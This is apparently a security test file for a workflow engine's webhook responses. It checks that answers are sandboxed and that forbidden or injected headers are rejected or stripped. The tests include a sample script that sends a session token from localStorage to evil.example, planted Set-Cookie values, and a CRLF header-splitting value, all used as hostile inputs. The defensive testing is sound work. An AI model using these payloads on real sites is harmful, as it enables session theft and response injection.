/**
 * Issue 11, item 2: a webhook answer is served from the installation's origin, so it must never run
 * script there, set cookies, loosen CORS or speak for the connection. (The browser side of the
 * attack is the journey e2e/journeys/webhook-answer-cannot-steal-session.spec.ts.)
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defineComponent } from '@weft/connector-kit';
import { node, RESPONSE, WEBHOOK } from '../connectors/flow-builder.ts';
import { http, startTestWeft, type TestUser, type TestWeft } from '../harness.ts';

const STEALER = '<!doctype html><script>fetch("https://evil.example/?t=" + encodeURIComponent(localStorage.getItem("weft.studio.session")))</script>';

/** Answers through `context.response` directly, as any component may, with headers no flow may set. */
const RawAnswer = defineComponent(
  { name: 'test.security.RawAnswer', label: 'Raw answer', inPorts: [{ name: 'in' }] },
  {
    async receive(context) {
      await context.response(STEALER, 200, { 'content-type': 'text/html', 'set-cookie': 'weft_session=planted', 'content-security-policy': 'default-src *' });
    },
  },
);

/** Says where its webhook is reachable, for WEFT_WEBHOOK_URL. */
const WhereAmI = defineComponent(
  { name: 'test.security.WhereAmI', label: 'Where am I', inPorts: [{ name: 'in' }] },
  {
    async receive(context) {
      await context.response({ url: context.getWebhookUrl() }, 200);
    },
  },
);

function expectSandboxed(headers: Headers): void {
  expect(headers.get('content-security-policy')).toBe('sandbox');
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  expect(headers.get('referrer-policy')).toBe('no-referrer');
}

describe('webhook answers', () => {
  let weft: TestWeft;
  let user: TestUser;
  beforeAll(async () => {
    weft = await startTestWeft({ components: [RawAnswer] });
    user = await weft.signup();
  });
  afterAll(() => weft.close());

  const call = (flowId: string, body: unknown = {}) => http<string>(`${weft.url}/flows/${flowId}/components/hook`, { body });

  describe('when a Response answers HTML with a script', () => {
    it('sends it as a sandboxed document that the browser may not sniff', async () => {
      const flowId = await user.createFlow({
        hook: node(WEBHOOK),
        reply: node(RESPONSE, ['hook.out'], { lambda: { status: 200, headers: { 'Content-Type': 'text/html; charset=utf-8' }, body: STEALER } }),
      });
      await user.startFlow(flowId);
      const answer = await call(flowId);
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toBe('text/html; charset=utf-8');
      expect(answer.body).toBe(STEALER);
      expectSandboxed(answer.headers);
    });
  });

  describe('when the flow puts forbidden headers in the Response literally', () => {
    const flow = {
      hook: node(WEBHOOK),
      reply: node(RESPONSE, ['hook.out'], {
        lambda: {
          status: 200,
          body: 'hi',
          headers: {
            'X-Order': '42',
            'Set-Cookie': 'weft_session=planted; Path=/',
            'Access-Control-Allow-Origin': '*',
            'Access-Control-Allow-Credentials': 'true',
            'Content-Security-Policy': 'default-src *',
            'X-Content-Type-Options': 'none',
            Connection: 'close',
            'Transfer-Encoding': 'chunked',
            'Proxy-Authenticate': 'Basic',
            'X-Split': 'a\r\nSet-Cookie: weft_session=planted',
            'X-Later': '{{{$.hook.out.body.later}}}',
          },
        },
      }),
    };

    it('validation reports each one at its path, and the flow does not start', async () => {
      const flowId = await user.createFlow(flow);
      const report = await user.call<{ valid: boolean; problems: { code: string; path: string; message: string }[] }>('GET', `/flows/${flowId}/validate`);
      expect(report.body.valid).toBe(false);
      const at = (name: string) => `flow.reply.config.transform.in.hook.out.headers.${name}`;
      const byPath = Object.fromEntries(report.body.problems.map((problem) => [problem.path, problem.code]));
      expect(byPath).toEqual({
        [at('Set-Cookie')]: 'response.header_forbidden',
        [at('Access-Control-Allow-Origin')]: 'response.header_forbidden',
        [at('Access-Control-Allow-Credentials')]: 'response.header_forbidden',
        [at('Content-Security-Policy')]: 'response.header_forbidden',
        [at('X-Content-Type-Options')]: 'response.header_forbidden',
        [at('Connection')]: 'response.header_forbidden',
        [at('Transfer-Encoding')]: 'response.header_forbidden',
        [at('Proxy-Authenticate')]: 'response.header_forbidden',
        [at('X-Split')]: 'response.header_invalid',
      });
      expect(report.body.problems.find((problem) => problem.path === at('Set-Cookie'))?.message).toMatch(/may not set "Set-Cookie"/);

      const started = await user.call<{ error: { code: string } }>('POST', `/flows/${flowId}/start`);
      expect(started.status).toBe(422);
      expect(started.body.error.code).toBe('flow.invalid');
    });
  });

  describe('when the headers come from variables', () => {
    it('leaves the forbidden ones out of the answer and logs a warning for each', async () => {
      const flowId = await user.createFlow({
        hook: node(WEBHOOK),
        reply: node(RESPONSE, ['hook.out'], { lambda: { status: 200, body: 'ok', headers: '{{{$.hook.out.body.headers}}}' } }),
      });
      await user.startFlow(flowId);
      const answer = await call(flowId, {
        headers: {
          'x-order': '42',
          'set-cookie': 'weft_session=planted; Path=/',
          'access-control-allow-origin': 'https://evil.example',
          'content-security-policy': 'default-src *',
          'content-security-policy-report-only': 'default-src *',
          'x-content-type-options': 'none',
          'keep-alive': 'timeout=5',
          upgrade: 'websocket',
          'x-split': 'a\r\nset-cookie: weft_session=planted',
          'bad name': 'x',
        },
      });
      expect(answer.status).toBe(200);
      expect(answer.headers.get('x-order')).toBe('42');
      expect(answer.headers.get('set-cookie')).toBeNull();
      expect(answer.headers.get('access-control-allow-origin')).toBeNull();
      expect(answer.headers.get('content-security-policy-report-only')).toBeNull();
      expect(answer.headers.get('upgrade')).toBeNull();
      expect(answer.headers.get('x-split')).toBeNull();
      expectSandboxed(answer.headers);

      const correlationId = answer.headers.get('x-weft-correlation-id')!;
      const records = await user.waitForLogs({ correlationId, direction: 'log' }, (r) => r.length >= 9);
      const warnings = records.filter((record) => record.severity === 'warn').map((record) => (record.payload as { message: string }).message);
      for (const name of ['set-cookie', 'access-control-allow-origin', 'content-security-policy', 'content-security-policy-report-only', 'x-content-type-options', 'keep-alive', 'upgrade', 'x-split', 'bad name']) {
        expect(warnings).toContainEqual(expect.stringContaining(`Header "${name}" left out of the answer`));
      }
      expect(warnings.join('\n')).not.toContain('x-order');
    });
  });

  describe('when another component answers through context.response', () => {
    it('is held to the same rules', async () => {
      const flowId = await user.createFlow({ hook: node(WEBHOOK), raw: node('test.security.RawAnswer', ['hook.out']) });
      await user.startFlow(flowId);
      const answer = await call(flowId);
      expect(answer.body).toBe(STEALER);
      expect(answer.headers.get('set-cookie')).toBeNull();
      expectSandboxed(answer.headers);
    });
  });

  describe('when the webhook answers on its own', () => {
    it('sandboxes the 202 acknowledgement and the errors too', async () => {
      const flowId = await user.createFlow({ hook: node(WEBHOOK, [], { properties: { waitForResponse: false } }) });
      await user.startFlow(flowId);
      const accepted = await call(flowId);
      expect(accepted.status).toBe(202);
      expectSandboxed(accepted.headers);

      const stopped = await user.createFlow({ hook: node(WEBHOOK) });
      const refused = await call(stopped);
      expect(refused.status).toBeGreaterThanOrEqual(400);
      expectSandboxed(refused.headers);
    });
  });
});

describe('WEFT_WEBHOOK_URL', () => {
  let weft: TestWeft;
  beforeAll(async () => {
    weft = await startTestWeft({ components: [WhereAmI], env: { WEFT_WEBHOOK_URL: 'https://hooks.weft.example/' } });
  });
  afterAll(() => weft.close());

  it('is the base of the webhook addresses the engine hands out', async () => {
    const user = await weft.signup();
    const flowId = await user.createFlow({ hook: node(WEBHOOK), where: node('test.security.WhereAmI', ['hook.out']) });
    await user.startFlow(flowId);
    const answer = await http<{ url: string }>(`${weft.url}/flows/${flowId}/components/hook`, { body: {} });
    expect(answer.body.url).toBe(`https://hooks.weft.example/flows/${flowId}/components/where`);
  });
});
